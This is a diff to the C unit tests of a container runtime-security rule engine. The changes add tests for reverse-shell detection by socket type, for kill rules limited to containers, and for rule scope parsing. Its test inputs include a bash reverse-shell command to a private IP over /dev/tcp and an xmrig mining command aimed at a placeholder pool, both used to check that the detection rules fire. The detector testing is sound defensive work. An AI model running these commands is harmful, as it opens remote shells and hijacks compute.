@@ -68,6 +68,9 @@ static void exec_view(struct moat_rule_view *v, const char *name, const char *cm
 	v->f[MOAT_F_PROC_CMDLINE] = cmdline;
 	v->f[MOAT_F_PROC_STDIN_SOCK] = "false";
 	v->f[MOAT_F_PROC_STDOUT_SOCK] = "false";
+	v->f[MOAT_F_PROC_STDIN_TYPE] = "pipe";
+	v->f[MOAT_F_PROC_STDOUT_TYPE] = "pipe";
+	v->f[MOAT_F_PROC_STDERR_TYPE] = "pipe";
 	v->f[MOAT_F_PROC_DRIFT] = "false";
 	if (container)
 		v->f[MOAT_F_CONTAINER_ID] =
@@ -88,7 +91,13 @@ static void test_rules__builtin_exec(void)
 	CHECK_STR(matches(rs, &v), "");
 	exec_view(&v, "bash", "bash -i", true);
 	v.f[MOAT_F_PROC_STDIN_SOCK] = "true";
+	v.f[MOAT_F_PROC_STDIN_TYPE] = "tcp";
 	CHECK_STR(matches(rs, &v), "shell-in-container,reverse-shell");
+	/* a socketpair (node, ninja) or a listening socket is not a peer */
+	v.f[MOAT_F_PROC_STDIN_TYPE] = "unix";
+	CHECK_STR(matches(rs, &v), "shell-in-container");
+	v.f[MOAT_F_PROC_STDIN_TYPE] = "listen";
+	CHECK_STR(matches(rs, &v), "shell-in-container");
 	exec_view(&v, "bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false);
 	CHECK_STR(matches(rs, &v), "reverse-shell-cmdline");
 	exec_view(&v, "xmrig", "xmrig -o stratum+tcp://pool.example:3333 -u x", true);
@@ -411,12 +420,45 @@ static void test_rules__deny_exes(void)
 		" - {id: c, severity: info, action: kill, when: {and: [{field: evt.kind, equals: exec},"
 		"    {field: proc.exe, equals: /bin/sh}, {field: container.id, exists: true}]}}\n"
 		" - {id: d, severity: info, action: kill, when: {and: [{field: proc.exe, equals: /opt/m},"
-		"    {field: evt.kind, equals: exec}]}}\n", &err), 0);
-	/* b only alerts, c is narrower than a path: neither may become a kernel kill */
+		"    {field: evt.kind, equals: exec}]}}\n"
+		" - {id: e, severity: info, action: kill, scope: container, when: {and: ["
+		"    {field: evt.kind, equals: exec}, {field: proc.exe, equals: /bin/dd}]}}\n",
+		&err), 0);
+	/* b only alerts, c is narrower than a path, e spares the host: none becomes a kernel kill */
 	CHECK_INT(moat_rules_deny_exes(rs, paths, 8), 3);
 	CHECK_STR(paths[0], "/usr/bin/xmrig");
 	CHECK_STR(paths[1], "/tmp/x");
 	CHECK_STR(paths[2], "/opt/m");
+	moat_rules_close(rs);
+}
+
+static void test_rules__scope(void)
+{
+	struct moat_ruleset *rs = NULL;
+	struct moat_error err = { 0 };
+	struct moat_rule_view v;
+
+	CHECK_INT(moat_rules_open(&rs, &err), 0);
+	CHECK_INT(load_str(rs, "rules:\n"
+		" - {id: c, severity: info, scope: container, when: {field: evt.kind, equals: exec}}"
+		"\n"
+		" - {id: h, severity: info, scope: host, when: {field: evt.kind, equals: exec}}\n"
+		" - {id: b, severity: info, scope: both, when: {field: evt.kind, equals: exec}}\n"
+		" - {id: d, severity: info, when: {field: evt.kind, equals: exec}}\n", &err), 0);
+	CHECK_INT(moat_rules_get(rs, 0)->scope, MOAT_SCOPE_CONTAINER);
+	CHECK_INT(moat_rules_get(rs, 3)->scope, MOAT_SCOPE_BOTH);
+	CHECK_STR(moat_rule_scope_name(moat_rules_get(rs, 1)->scope), "host");
+	exec_view(&v, "sh", "sh", true);
+	CHECK_STR(matches(rs, &v), "c,b,d");
+	exec_view(&v, "sh", "sh", false);
+	CHECK_STR(matches(rs, &v), "h,b,d");
+	CHECK(moat_rules_use_field(rs, MOAT_F_EVT_KIND));
+	CHECK(!moat_rules_use_field(rs, MOAT_F_PROC_ANCESTORS));
+	CHECK(load_str(rs, "rules: [{id: x, severity: info, scope: pod, when: {field: proc.pid, "
+		       "equals: 1}}]", &err) == MOAT_E_FORMAT);
+	CHECK(strstr(err.msg, "scope is container, host or both") != NULL);
+	CHECK(load_str(rs, "rules: [{id: y, severity: info, scope: [host], when: {field: proc.pid, "
+		       "equals: 1}}]", &err) == MOAT_E_FORMAT);
 	moat_rules_close(rs);
 }
 
@@ -619,6 +661,7 @@ int main(void)
 	MOAT_RUN(test_rules__lua_load_errors);
 	MOAT_RUN(test_rules__reload);
 	MOAT_RUN(test_rules__deny_exes);
+	MOAT_RUN(test_rules__scope);
 	MOAT_RUN(test_rules__errors);
 	MOAT_RUN(test_rules__prefixes);
 	MOAT_RUN(test_rules__prefix_merge);
